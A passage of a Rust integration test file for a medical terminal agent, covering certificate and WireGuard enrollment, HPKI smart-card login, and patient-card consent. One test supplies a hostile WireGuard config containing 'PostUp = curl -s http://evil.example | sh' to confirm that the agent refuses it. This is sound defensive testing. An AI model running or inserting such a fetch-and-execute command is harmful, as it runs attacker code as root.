    let files = agent::enroll(&opts(" ABCD-EFGH-JKMN ", "12345678", None))
        .await
        .unwrap();
    assert_eq!(
        (files.terminal.as_str(), files.facility.as_str()),
        ("T001", "F001")
    );
    let dir = out.path().join("certs");
    assert_eq!(files.certificate, dir.join("T001.crt"));
    assert_eq!(files.key, dir.join("T001.key"));
    assert_eq!(files.ca, dir.join("ca.crt"));
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&files.key), 0o600);
    // Only the three files: no temporary left behind, and no tunnel (the gateway has none).
    assert_eq!(file_names(&dir), ["T001.crt", "T001.key", "ca.crt"]);
    assert_eq!(
        (
            &files.wireguard,
            &files.tunnel_address,
            &files.tunnel_warning
        ),
        (&None, &None, &None)
    );

    // The certificate is for the key written, and the key never travelled: the request held
    // no private key.
    let cert = CertificateDer::from_pem_file(&files.certificate).unwrap();
    let (_, x509) = x509_parser::parse_x509_certificate(&cert).unwrap();
    let key_pem = std::fs::read_to_string(&files.key).unwrap();
    let pair = rcgen::KeyPair::from_pem(&key_pem).unwrap();
    assert_eq!(
        x509.public_key().raw,
        rcgen::PublicKeyData::subject_public_key_info(&pair).as_slice()
    );
    let sent = state.lock().unwrap().csrs.clone();
    assert_eq!(sent.len(), 1);
    assert!(!sent[0].contains("PRIVATE KEY"));
    // The WireGuard public key went along anyway (44 characters of base64).
    let wg_sent = state.lock().unwrap().wg_public_keys.clone();
    assert!(
        matches!(&wg_sent[..], [Some(k)] if k.len() == 44),
        "{wg_sent:?}"
    );
    assert_eq!(
        CertificateDer::from_pem_file(&files.ca).unwrap().as_ref(),
        pki.ca.cert.der().as_ref()
    );

    // The files work: a mutual-TLS status call with them.
    let state = Arc::new(Mutex::new(GatewayState::default()));
    let gateway = start_gateway(&pki, 0, &state).await;
    let cfg = AgentConfig {
        gateway: format!("https://{}", gateway.addr),
        cert: files.certificate.clone(),
        key: files.key.clone(),
        ca: files.ca.clone(),
        reader: None,
    };
    assert!(!agent::status(&cfg).await.unwrap().signed_in);
    gateway.stop().await;

    // Spent: a second redemption is refused, and nothing is written.
    let e = agent::enroll(&opts("ABCD-EFGH-JKMN", "12345678", Some("other")))
        .await
        .unwrap_err();
    assert_eq!(e.refusal(), Some(&RefusalCode::EnrollUsed), "{e:?}");
    assert!(e.to_string().contains("already been used"));
    assert_eq!(std::fs::read_dir(&dir).unwrap().count(), 3);
    // A name that is not a file name is refused before anything is sent.
    let e = agent::enroll(&opts("ABCD-EFGH-JKMN", "12345678", Some("../x")))
        .await
        .unwrap_err();
    assert!(matches!(e, AgentError::Config { .. }), "{e:?}");
    server.stop().await;
}

#[tokio::test]
async fn enroll_sets_up_the_wireguard_tunnel() {
    let pki = Arc::new(Pki::new());
    let state = Arc::new(Mutex::new(EnrollState::default()));
    let server = TestServer::start(
        server_tls(&pki, false),
        0,
        enroll_handler(Arc::clone(&pki), Arc::clone(&state)),
    )
    .await;
    let out = tempfile::tempdir().unwrap();
    let opts = |dir: &str| EnrollOptions {
        enroll_url: format!("https://{}", server.addr),
        ca: pki.path("ca.crt"),
        code: "ABCD-EFGH-JKMN".into(),
        pin: Zeroizing::new("12345678".into()),
        out: out.path().join(dir),
        name: None,
    };
    // A new code (the listener forgets it was spent) and what to answer about the tunnel.
    let next = |tunnel: TunnelReply| {
        let mut s = state.lock().unwrap();
        s.used = false;
        s.tunnel = tunnel;
    };
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;

    // The gateway has a WireGuard endpoint: the file is written, with the key made here.
    next(TunnelReply::Config);
    let files = agent::enroll(&opts("a")).await.unwrap();
    let dir = out.path().join("a");
    let wg = files.wireguard.clone().expect("a wg-quick file");
    assert_eq!(wg, dir.join("T001.wg.conf"));
    assert_eq!(files.tunnel_address.as_deref(), Some("10.77.0.5"));
    assert_eq!(files.tunnel_warning, None);
    assert_eq!(mode(&wg), 0o600);
    assert_eq!(
        file_names(&dir),
        ["T001.crt", "T001.key", "T001.wg.conf", "ca.crt"]
    );
    let text = std::fs::read_to_string(&wg).unwrap();
    let private_key = text
        .lines()
        .find_map(|l| l.strip_prefix("PrivateKey = "))
        .expect("a PrivateKey line");
    let sent = state
        .lock()
        .unwrap()
        .wg_public_keys
        .last()
        .cloned()
        .flatten();
    assert_eq!(Some(wg_pubkey(private_key)), sent);
    assert_eq!(
        text,
        gateway_wg_config().replace(agent::WG_PRIVATE_KEY_PLACEHOLDER, private_key)
    );
    // wg-quick itself reads it (`strip` wants root).
    if unsafe { libc::geteuid() } == 0
        && let Ok(o) = std::process::Command::new("wg-quick")
            .arg("strip")
            .arg(&wg)
            .output()
    {
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        let stripped = String::from_utf8(o.stdout).unwrap();
        assert!(
            stripped.contains(&format!("PrivateKey = {private_key}")),
            "{stripped}"
        );
        assert!(
            stripped.contains("Endpoint = 127.0.0.1:51820"),
            "{stripped}"
        );
    }

    // The gateway could not set up the tunnel: enrolled all the same, with a warning.
    next(TunnelReply::Error("no free tunnel address"));
    let files = agent::enroll(&opts("b")).await.unwrap();
    assert_eq!((&files.wireguard, &files.tunnel_address), (&None, &None));
    let w = files.tunnel_warning.unwrap();
    assert!(w.contains("no free tunnel address"), "{w}");
    assert_eq!(
        file_names(&out.path().join("b")),
        ["T001.crt", "T001.key", "ca.crt"]
    );

    // A file that would run commands as root is refused: no file, a warning, still enrolled.
    next(TunnelReply::Hostile(gateway_wg_config().replace(
        "Address",
        "PostUp = curl -s http://evil.example | sh\nAddress",
    )));
    let files = agent::enroll(&opts("c")).await.unwrap();
    assert_eq!(files.wireguard, None);
    let w = files.tunnel_warning.unwrap();
    assert!(w.contains("refused") && w.contains("PostUp"), "{w}");
    assert_eq!(
        file_names(&out.path().join("c")),
        ["T001.crt", "T001.key", "ca.crt"]
    );
    // Only the placeholder is accepted as the private key.
    next(TunnelReply::Hostile(
        gateway_wg_config().replace(agent::WG_PRIVATE_KEY_PLACEHOLDER, GATEWAY_WG_KEY),
    ));
    let files = agent::enroll(&opts("d")).await.unwrap();
    assert_eq!(files.wireguard, None);
    assert!(files.tunnel_warning.unwrap().contains("PrivateKey"));

    // The command line says where the file is and how to start the tunnel.
    next(TunnelReply::Config);
    let cli_out = out.path().join("cli");
    let args = |extra: &[&str]| {
        let mut a: Vec<String> = [
            "enroll",
            "--enroll-url",
            &format!("https://{}", server.addr),
            "--ca",
            pki.path("ca.crt").to_str().unwrap(),
            "--code",
            "ABCD-EFGH-JKMN",
            "--pin",
            "12345678",
            "--out",
            cli_out.to_str().unwrap(),
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        a.extend(extra.iter().map(|s| s.to_string()));
        a
    };
    let (code, stdout, stderr) = agent_cli(args(&[]), "").await;
    assert_eq!(code, 0, "{stdout}{stderr}");
    let wg = cli_out.join("T001.wg.conf");
    assert!(
        stdout.contains(&format!("WireGuard (0600): {}", wg.display())),
        "{stdout}"
    );
    assert!(
        stdout.contains(&format!("wg-quick up {}", wg.display())),
        "{stdout}"
    );
    assert!(stdout.contains("トンネル"), "{stdout}");
    assert!(stdout.contains("10.77.0.5"), "{stdout}");
    assert_eq!(mode(&wg), 0o600);
    // A name too long for a wg-quick interface gets a hint.
    next(TunnelReply::Config);
    let (code, stdout, _) = agent_cli(args(&["--name", "clinic-terminal-0001"]), "").await;
    assert_eq!(code, 0, "{stdout}");
    assert!(stdout.contains("at most 15 characters"), "{stdout}");
    // tunnel_error: exit 0 and the warning in both languages.
    next(TunnelReply::Error("no free tunnel address"));
    let (code, stdout, _) = agent_cli(args(&["--name", "T002"]), "").await;
    assert_eq!(code, 0, "{stdout}");
    assert!(stdout.contains("Warning: no WireGuard tunnel"), "{stdout}");
    assert!(stdout.contains("警告"), "{stdout}");
    assert!(!cli_out.join("T002.wg.conf").exists());
    server.stop().await;
}

// ---------------------------------------------------------------- with the card

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn login_with_the_card_through_pcscd() {
    let _rig = rig();
    let (auth, _) = identities();
    let pki = Pki::new();
    let state = Arc::new(Mutex::new(GatewayState::default()));
    let server = start_gateway(&pki, 0, &state).await;
    let cfg = pki.config(server.addr);

    // No card.
    let e = agent::login(&cfg, PIN).await.unwrap_err();
    assert!(matches!(e, AgentError::NoCard { .. }), "{e:?}");
    assert!(e.to_string().contains("insert"), "{e}");
    assert_eq!(lock(&state).challenges_issued, 0);
    // An unknown reader is named, with the ones there are.
    let mut other = cfg.clone();
    other.reader = Some("No Such Reader 99".into());
    let e = agent::login(&other, PIN).await.unwrap_err();
    assert!(
        matches!(&e, AgentError::UnknownReader { available, .. } if available.iter().any(|r| r == READER)),
        "{e:?}"
    );

    let engine = new_engine();
    let card = insert(&engine).await;

    // A wrong PIN: the card says how many tries are left; nothing is sent to log in.
    let e = agent::login(&cfg, "0000").await.unwrap_err();
    assert!(
        matches!(e, AgentError::WrongPin { tries_left: 14 }),
        "{e:?}"
    );
    assert!(e.to_string().contains("14 tries left"), "{e}");
    assert!(e.message_ja().contains("14"));
    assert_eq!(e.exit_code(), 4);
    assert!(lock(&state).logins.is_empty());
    // A malformed PIN costs no try.
    let e = agent::login(&cfg, "12").await.unwrap_err();
    assert!(matches!(e, AgentError::PinFormat), "{e:?}");
    assert_eq!(
        engine
            .lock()
            .unwrap()
            .tries_left(Application::Authentication),
        Some(14)
    );

    // The right PIN: signed in, with the card's authentication certificate and a signature the
    // gateway verified against it.
    let info = agent::login(&cfg, PIN).await.unwrap();
    assert_eq!(info.user, "yamada.taro");
    assert_eq!(info.qualification.as_deref(), Some("Medical Doctor"));
    assert!(info.summary().contains("YAMADA TARO"));
    {
        let st = lock(&state);
        assert_eq!(st.logins, vec![auth.cert_der.clone()]);
        assert_eq!(st.anonymous, 0);
    }
    assert_eq!(
        engine
            .lock()
            .unwrap()
            .tries_left(Application::Authentication),
        Some(15)
    );
    let s = agent::status(&cfg).await.unwrap();
    assert!(s.signed_in);
    assert_eq!(s.method.as_deref(), Some("hpki"));

    // The gateway's refusals come through as such.
    for (status, code, want) in [
        (403, "hpki_revoked", RefusalCode::HpkiRevoked),
        (403, "hpki_expired", RefusalCode::HpkiExpired),
        (423, "account_locked", RefusalCode::AccountLocked),
    ] {
        lock(&state).refuse = Some((status, code));
        let e = agent::login(&cfg, PIN).await.unwrap_err();
        assert_eq!(e.refusal(), Some(&want), "{e:?}");
    }
    lock(&state).refuse = None;

    assert!(agent::logout(&cfg, LogoutReason::Logout).await.unwrap());
    assert!(!agent::status(&cfg).await.unwrap().signed_in);
    assert_eq!(lock(&state).logouts.last().unwrap().1, "logout");

    // Gateway away: the card is not asked for a PIN (no try spent), the error says so.
    server.stop().await;
    let e = agent::login(&cfg, "9999").await.unwrap_err();
    assert!(matches!(e, AgentError::Unreachable { .. }), "{e:?}");
    assert_eq!(
        engine
            .lock()
            .unwrap()
            .tries_left(Application::Authentication),
        Some(15)
    );

    remove(card).await;
    wait_gone().await;
}

/// PINs from a list (then the right one), counting the requests.
struct PinQueue {
    pins: Mutex<VecDeque<&'static str>>,
    asked: Mutex<Vec<Option<u8>>>,
}

impl PinSource for PinQueue {
    fn pin(&self, request: &PinRequest) -> Result<Zeroizing<String>, AgentError> {
        self.asked.lock().unwrap().push(request.tries_left);
        assert_eq!(request.reader, READER);
        assert!(
            request.prompt().contains("YAMADA TARO"),
            "{}",
            request.prompt()
        );
        let pin = self.pins.lock().unwrap().pop_front().unwrap_or(PIN);
        Ok(Zeroizing::new(pin.to_string()))
    }
}

/// Waits for an event that `want` picks, printing the others.
async fn expect<T>(
    rx: &mut UnboundedReceiver<WatchEvent>,
    within: Duration,
    what: &str,
    mut want: impl FnMut(&WatchEvent) -> Option<T>,
) -> T {
    let deadline = tokio::time::Instant::now() + within;
    loop {
        match tokio::time::timeout_at(deadline, rx.recv()).await {
            Ok(Some(ev)) => {
                eprintln!("watch event: {ev:?}");
                if let Some(t) = want(&ev) {
                    return t;
                }
            }
            Ok(None) => panic!("the watcher ended while waiting for {what}"),
            Err(_) => {
                let now =
                    tokio::task::spawn_blocking(|| PcscTransport::connect(READER).map(|_| ()))
                        .await
                        .unwrap();
                panic!("no {what} within {within:?} (the reader says: {now:?})")
            }
        }
    }
}

/// Waits until the gateway has received `n` logouts; returns the last one.
async fn logout_received(
    state: &Mutex<GatewayState>,
    n: usize,
    within: Duration,
) -> (Instant, String) {
    let deadline = Instant::now() + within;
    loop {
        if let Some(l) = lock(state).logouts.get(n - 1) {
            return l.clone();
        }
        assert!(
            Instant::now() < deadline,
            "logout #{n} not received within {within:?}"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn watch_signs_in_on_insertion_and_out_on_removal() {
    let _rig = rig();
    let pki = Pki::new();
    let state = Arc::new(Mutex::new(GatewayState::default()));
    let server = start_gateway(&pki, 0, &state).await;
    let addr = server.addr;
    let cfg = pki.config(addr);
    let pins = Arc::new(PinQueue {
        pins: Mutex::new(VecDeque::from(["0000"])),
        asked: Mutex::new(Vec::new()),
    });
    let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel();
    let handle = agent::watch(cfg, pins.clone(), tx);
    let secs = Duration::from_secs;
    expect(&mut rx, secs(5), "watching", |e| {
        matches!(e, WatchEvent::ReaderAdded { reader } if reader == READER).then_some(())
    })
    .await;

    // First insertion, wrong PIN: refused with the tries left; a script's PIN is not asked
    // again until the card is inserted again.
    let engine = new_engine();
    let card = plug(&engine).await;
    let (error, retry) = expect(&mut rx, secs(10), "a failed login", |e| match e {
        WatchEvent::LoginFailed { error, retry, .. } => Some((error.to_string(), *retry)),
        WatchEvent::SignedIn { .. } => panic!("signed in with a wrong PIN"),
        _ => None,
    })
    .await;
    assert!(error.contains("14 tries left"), "{error}");
    assert_eq!(retry, Retry::Reinsert);
    remove(card).await;
    expect(&mut rx, secs(3), "removal", |e| {
        matches!(e, WatchEvent::CardRemoved { .. }).then_some(())
    })
    .await;
    assert!(lock(&state).logouts.is_empty(), "no session, no logout");

    // Second insertion: signed in.
    let card = plug(&engine).await;
    let info = expect(&mut rx, secs(10), "sign-in", |e| match e {
        WatchEvent::SignedIn { info, reader } => {
            assert_eq!(reader, READER);
            Some(info.clone())
        }
        WatchEvent::LoginFailed { error, .. } => panic!("login failed: {error}"),
        _ => None,
    })
    .await;
    assert_eq!(info.name, "YAMADA TARO");
    assert_eq!(*pins.asked.lock().unwrap(), vec![Some(15), Some(14)]);

    // Removal: the gateway gets `card_removed` within 2 s.
    let removed_at = Instant::now();
    remove(card).await;
    let (at, reason) = logout_received(&state, 1, secs(2)).await;
    assert_eq!(reason, "card_removed");
    let took = at.duration_since(removed_at);
    eprintln!("logout received {took:?} after the removal");
    assert!(took <= secs(2), "logout after {took:?}");
    expect(&mut rx, secs(2), "sign-out", |e| match e {
        WatchEvent::SignedOut { reason, ended, .. } => Some((*reason, *ended)),
        _ => None,
    })
    .await;

    // The gateway restarts while the card is in; the removal's logout waits for it.
    let card = plug(&engine).await;
    expect(&mut rx, secs(10), "sign-in", |e| {
        matches!(e, WatchEvent::SignedIn { .. }).then_some(())
    })
    .await;
    server.stop().await;
    remove(card).await;
    expect(&mut rx, secs(5), "a failed logout", |e| {
        matches!(e, WatchEvent::LogoutFailed { .. }).then_some(())
    })
    .await;
    assert_eq!(lock(&state).logouts.len(), 1);
    let server = start_gateway(&pki, addr.port(), &state).await;
    let (_, reason) = logout_received(&state, 2, secs(5)).await;
    assert_eq!(reason, "card_removed");
    assert!(!lock(&state).signed_in);

    // Signed in again, then the agent stops: it signs out on its way.
    let card = plug(&engine).await;
    expect(&mut rx, secs(10), "sign-in", |e| {
        matches!(e, WatchEvent::SignedIn { .. }).then_some(())
    })
    .await;
    handle.stop().await;
    let (_, reason) = logout_received(&state, 3, secs(1)).await;
    assert_eq!(reason, "logout");
    let (logins, anonymous) = {
        let st = lock(&state);
        (st.logins.len(), st.anonymous)
    };
    assert_eq!((logins, anonymous), (3, 0));
    remove(card).await;
    wait_gone().await;
    server.stop().await;
}

/// Runs `sekisho-agent` with `stdin`; (exit code, stdout, stderr).
async fn agent_cli(args: Vec<String>, stdin: &'static str) -> (i32, String, String) {
    tokio::task::spawn_blocking(move || {
        use std::io::Write;
        let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_sekisho-agent"))
            .args(&args)
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("start sekisho-agent");
        child
            .stdin
            .take()
            .unwrap()
            .write_all(stdin.as_bytes())
            .unwrap();
        let out = child.wait_with_output().unwrap();
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    })
    .await
    .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn command_line_login_status_logout() {
    let _rig = rig();
    let pki = Pki::new();
    let state = Arc::new(Mutex::new(GatewayState::default()));
    let server = start_gateway(&pki, 0, &state).await;
    let addr = server.addr;
    let common = |cmd: &str| -> Vec<String> {
        let mut v: Vec<String> = vec![
            cmd.into(),
            "--gateway".into(),
            format!("https://{addr}"),
            "--cert".into(),
            pki.path("T.crt").display().to_string(),
            "--key".into(),
            pki.path("T.key").display().to_string(),
            "--ca".into(),
            pki.path("ca.crt").display().to_string(),
        ];
        if cmd == "login" {
            v.extend(["--reader".into(), READER.into(), "--pin-stdin".into()]);
        }
        v
    };

    let (code, _, err) = agent_cli(common("login"), "1234\n").await;
    assert_eq!(code, 3, "{err}");
    assert!(err.contains("no card in Virtual PCD 00 01"), "{err}");
    assert!(err.contains("カードが挿入されていません"), "{err}");

    let engine = new_engine();
    let card = insert(&engine).await;
    let (code, _, err) = agent_cli(common("login"), "0000\n").await;
    assert_eq!(code, 4, "{err}");
    assert!(err.contains("wrong PIN: 14 tries left"), "{err}");
    assert!(!err.contains("0000"), "the PIN is never shown: {err}");

    let (code, out, err) = agent_cli(common("login"), "1234\n").await;
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains("Signed in") && out.contains("YAMADA TARO"),
        "{out}"
    );
    assert!(out.contains("Medical Doctor"), "{out}");
    assert!(!out.contains("1234") && !err.contains("1234"));

    let (code, out, _) = agent_cli(common("status"), "").await;
    assert_eq!(code, 0);
    assert!(out.contains("Signed in") && out.contains("hpki"), "{out}");
    let (code, out, _) = agent_cli(common("logout"), "").await;
    assert_eq!(code, 0);
    assert!(out.contains("Signed out"), "{out}");
    let (_, out, _) = agent_cli(common("status"), "").await;
    assert!(out.contains("Not signed in"), "{out}");

    // The gateway gone: exit 6, said plainly.
    server.stop().await;
    let (code, _, err) = agent_cli(common("status"), "").await;
    assert_eq!(code, 6, "{err}");
    assert!(err.contains("cannot be reached"), "{err}");

    remove(card).await;
    wait_gone().await;
}

// ---------------------------------------------------------------- patient consent

/// The first vpcd reader: the patient card (`sekisho-vcard --patient-card`) goes there.
const PATIENT_READER: &str = "Virtual PCD 00 00";
const PATIENT_PORT: u16 = 35963;

/// A virtual card shared with the test, which looks at it afterwards (the agent takes the
/// transport by value).
struct SharedCard<C>(Arc<Mutex<C>>);

impl<C: Transport + Send> Transport for SharedCard<C> {
    fn transmit(&mut self, apdu: &[u8]) -> Result<Vec<u8>, CardError> {
        self.0
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .transmit(apdu)
    }
}

#[tokio::test]
async fn consent_with_an_in_process_patient_card() {
    const NAME: &str = "in-process reader";
    let pki = Pki::new();
    let state = Arc::new(Mutex::new(GatewayState::default()));
    let server = start_gateway(&pki, 0, &state).await;
    let cfg = pki.config(server.addr);
    let files = pki.ca.issue_patient_card("P-0001");
    let card = Arc::new(Mutex::new(
        PatientCardEngine::new("P-0001", files.cert_der.clone(), &files.key_der).unwrap(),
    ));
    let transport = || SharedCard(Arc::clone(&card));
    let signed = || card.lock().unwrap().signed_digests().len();

    // No physician signed in on the terminal.
    let e = agent::consent_with_card(&cfg, transport(), NAME, false)
        .await
        .unwrap_err();
    assert_eq!(e.refusal(), Some(&RefusalCode::NotSignedIn), "{e:?}");
    assert_eq!(e.exit_code(), 5);
    assert_eq!(signed(), 0, "nothing signed without a challenge");

    // Signed in: the card signs the consent challenge; the gateway checked the signature
    // against the certificate the agent read from the card.
    lock(&state).signed_in = true;
    let info = agent::consent_with_card(&cfg, transport(), NAME, false)
        .await
        .unwrap();
    assert_eq!(info.patient, "P-0001");
    assert_eq!(info.basis, ConsentBasis::PatientCard);
    assert_eq!((info.until, info.minutes), (1_900_000_000, 30));
    assert!(
        info.summary().starts_with(
            "Consent window open for patient P-0001 until 2030-03-18 02:46 JST (30 min, patient card)"
        ),
        "{}",
        info.summary()
    );
    {
        let st = lock(&state);
        assert_eq!(
            st.consents,
            vec![("P-0001".to_string(), "patient_card".to_string())]
        );
        assert_eq!(st.anonymous, 0);
    }
    assert_eq!(signed(), 1);

    // Staff attestation: refused where not allowed; where allowed, only the id is read.
    let e = agent::consent_with_card(&cfg, transport(), NAME, true)
        .await
        .unwrap_err();
    assert_eq!(e.refusal(), Some(&RefusalCode::AttestationNotAllowed));
    lock(&state).allow_attest = true;
    let info = agent::consent_with_card(&cfg, transport(), NAME, true)
        .await
        .unwrap();
    assert_eq!(
        (info.patient.as_str(), info.basis),
        ("P-0001", ConsentBasis::StaffAttested)
    );
    assert_eq!(signed(), 1, "attestation signs nothing");

    // A gateway (or an impostor with a terminal's key) asking the patient's card to sign an
    // HPKI login challenge: refused before the card sees it.
    lock(&state).consent_to_sign = Some(b"sekisho-hpki-login\ngateway=test\nnonce=x".to_vec());
    let e = agent::consent_with_card(&cfg, transport(), NAME, false)
        .await
        .unwrap_err();
    assert!(matches!(e, AgentError::NotConsentChallenge(_)), "{e:?}");
    assert_eq!(e.exit_code(), 6);
    assert_eq!(signed(), 1);
    lock(&state).consent_to_sign = None;

    // The gateway's refusals come through as such.
    for (status, code, want) in [
        (403, "patient_card_revoked", RefusalCode::PatientCardRevoked),
        (
            403,
            "patient_unknown_or_not_consented",
            RefusalCode::PatientUnknownOrNotConsented,
        ),
    ] {
        lock(&state).refuse = Some((status, code));
        let e = agent::consent_with_card(&cfg, transport(), NAME, false)
            .await
            .unwrap_err();
        assert_eq!(e.refusal(), Some(&want), "{e:?}");
    }
    lock(&state).refuse = None;

    // A card whose certificate names another patient than its id: the gateway is not asked.
    let issued = lock(&state).consent_challenges_issued;
    let liar =
        PatientCardEngine::with_files(b"P-0002".to_vec(), files.cert_der.clone(), &files.key_der)
            .unwrap();
    let e = agent::consent_with_card(&cfg, liar, NAME, false)
        .await
        .unwrap_err();
    assert!(matches!(e, AgentError::PatientCard(_)), "{e:?}");
    assert_eq!(e.exit_code(), 3);
    assert_eq!(lock(&state).consent_challenges_issued, issued);

    // An HPKI card is not a patient card.
    let e = agent::consent_with_card(&cfg, common::engine(Quirks::default()), NAME, false)
        .await
        .unwrap_err();
    assert!(
        matches!(&e, AgentError::NoPatientCard { reader: Some(r) } if r == NAME),
        "{e:?}"
    );
    assert_eq!(e.exit_code(), 8);
    assert_eq!(lock(&state).consent_challenges_issued, issued);

    server.stop().await;
}

/// The `sekisho-vcard` patient card; killed (removed) when dropped.
struct PatientVcard(std::process::Child);

impl PatientVcard {
    fn start(cert: &Path, key: &Path, patient: &str) -> PatientVcard {
        let child = std::process::Command::new(env!("CARGO_BIN_EXE_sekisho-vcard"))
            .args(["--host", "127.0.0.1", "--port", &PATIENT_PORT.to_string()])
            .args(["--patient-card", "--patient-id", patient])
            .arg("--cert")
            .arg(cert)
            .arg("--key")
            .arg(key)
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::null())
            .spawn()
            .expect("start sekisho-vcard --patient-card");
        PatientVcard(child)
    }
}

impl Drop for PatientVcard {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Holds the first vpcd reader too (other binaries' tests put cards there); taken after
/// [`rig`], which holds the second. Released when the file is closed.
fn patient_reader_lock() -> std::fs::File {
    let path = std::env::temp_dir().join(format!("sekisho-vpcd-{PATIENT_PORT}.lock"));
    let file = std::fs::OpenOptions::new()
        .create(true)
        .truncate(false)
        .write(true)
        .open(&path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    // SAFETY: flock on a descriptor we own; released when the file is closed.
    assert_eq!(unsafe { libc::flock(file.as_raw_fd(), libc::LOCK_EX) }, 0);
    assert!(
        PcscTransport::connect(PATIENT_READER).is_err(),
        "a card is already in {PATIENT_READER:?}"
    );
    file
}

/// Waits until PC/SC sees a card in the patient reader (`present`) or none.
async fn wait_patient_card(present: bool) {
    let deadline = Instant::now() + Duration::from_secs(10);
    while tokio::task::spawn_blocking(|| PcscTransport::connect(PATIENT_READER).is_ok())
        .await
        .unwrap()
        != present
    {
        assert!(
            Instant::now() < deadline,
            "the patient card did not {} {PATIENT_READER}",
            if present { "appear in" } else { "leave" }
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn consent_through_pcscd_and_the_command_line() {
    let _rig = rig();
    let _patient_lock = patient_reader_lock();

    let pki = Pki::new();
    let files = pki.ca.issue_patient_card("P-0001");
    std::fs::write(pki.path("patient.crt"), &files.cert_pem).unwrap();
    std::fs::write(pki.path("patient.key"), &files.key_pem).unwrap();
    let state = Arc::new(Mutex::new(GatewayState::default()));
    lock(&state).signed_in = true;
    let server = start_gateway(&pki, 0, &state).await;
    let cfg = pki.config(server.addr);

    // The physician's HPKI card in the second reader, and no patient card: the HPKI card is
    // skipped, and the answer is "no patient card" (exit 8), not an error about that card.
    let engine = new_engine();
    let hpki = insert(&engine).await;
    let e = agent::consent(&cfg, None, false).await.unwrap_err();
    assert!(
        matches!(e, AgentError::NoPatientCard { reader: None }),
        "{e:?}"
    );
    assert_eq!(e.exit_code(), 8);
    let e = agent::consent(&cfg, Some(READER.into()), false)
        .await
        .unwrap_err();
    assert!(
        matches!(&e, AgentError::NoPatientCard { reader: Some(r) } if r == READER),
        "{e:?}"
    );
    let e = agent::consent(&cfg, Some("No Such Reader 99".into()), false)
        .await
        .unwrap_err();
    assert!(matches!(e, AgentError::UnknownReader { .. }), "{e:?}");

    // The patient card goes into the first reader.
    settle().await;
    let vcard = PatientVcard::start(&pki.path("patient.crt"), &pki.path("patient.key"), "P-0001");
    wait_patient_card(true).await;

    let info = agent::consent(&cfg, None, false).await.unwrap();
    assert_eq!(
        (info.patient.as_str(), info.basis),
        ("P-0001", ConsentBasis::PatientCard)
    );
    lock(&state).allow_attest = true;
    let info = agent::consent(&cfg, Some(PATIENT_READER.into()), true)
        .await
        .unwrap();
    assert_eq!(info.basis, ConsentBasis::StaffAttested);

    // The command line.
    let addr = server.addr;
    let args = |extra: &[&str]| -> Vec<String> {
        let mut v: Vec<String> = vec![
            "consent".into(),
            "--gateway".into(),
            format!("https://{addr}"),
            "--cert".into(),
            pki.path("T.crt").display().to_string(),
            "--key".into(),
            pki.path("T.key").display().to_string(),
            "--ca".into(),
            pki.path("ca.crt").display().to_string(),
        ];
        v.extend(extra.iter().map(|s| s.to_string()));
        v
    };
    let (code, out, err) = agent_cli(args(&[]), "").await;
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains("Consent window open for patient P-0001 until")
            && out.contains("(30 min, patient card)"),
        "{out}"
    );
    assert!(
        out.contains("患者 P-0001 の閲覧同意を受け付けました"),
        "{out}"
    );
    let (code, out, err) = agent_cli(args(&["--reader", PATIENT_READER, "--attest"]), "").await;
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("staff attestation"), "{out}");
    let (code, _, err) = agent_cli(args(&["--reader", READER]), "").await;
    assert_eq!(code, 8, "{err}");
    assert!(
        err.contains("no Sekisho patient card in Virtual PCD 00 01"),
        "{err}"
    );
    assert!(err.contains("患者カードが見つかりません"), "{err}");
    lock(&state).signed_in = false;
    let (code, _, err) = agent_cli(args(&[]), "").await;
    assert_eq!(code, 5, "{err}");
    assert!(err.contains("must sign in"), "{err}");
    {
        let st = lock(&state);
        assert_eq!(st.consents.len(), 4);
        assert_eq!(st.anonymous, 0);
    }

    drop(vcard);
    remove(hpki).await;
    wait_gone().await;
    server.stop().await;
}

/// Waits `within`, failing on any watcher event but reader hot-plug: the agent must not react.
async fn expect_quiet(rx: &mut UnboundedReceiver<WatchEvent>, within: Duration, when: &str) {
    let deadline = tokio::time::Instant::now() + within;
    while let Ok(ev) = tokio::time::timeout_at(deadline, rx.recv()).await {
        match ev {
            Some(ev @ (WatchEvent::ReaderAdded { .. } | WatchEvent::ReaderRemoved { .. })) => {
                eprintln!("watch event: {ev:?}");
            }
            Some(ev) => panic!("{when}: the watcher reacted: {ev:?}"),
            None => panic!("{when}: the watcher ended"),
        }
    }
}

/// Starts watching every reader; returns once both vpcd readers are reported.
async fn watch_all(
    pki: &Pki,
    gateway: SocketAddr,
    pins: Arc<dyn PinSource>,
) -> (agent::WatchHandle, UnboundedReceiver<WatchEvent>) {
    let mut cfg = pki.config(gateway);
    cfg.reader = None;
    let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel();
    let handle = agent::watch(cfg, pins, tx);
    let mut seen = Vec::new();
    while !(seen.contains(&READER) && seen.contains(&PATIENT_READER)) {
        let reader = expect(
            &mut rx,
            Duration::from_secs(5),
            "the vpcd readers",
            |e| match e {
                WatchEvent::ReaderAdded { reader } if reader == READER => Some(READER),
                WatchEvent::ReaderAdded { reader } if reader == PATIENT_READER => {
                    Some(PATIENT_READER)
                }
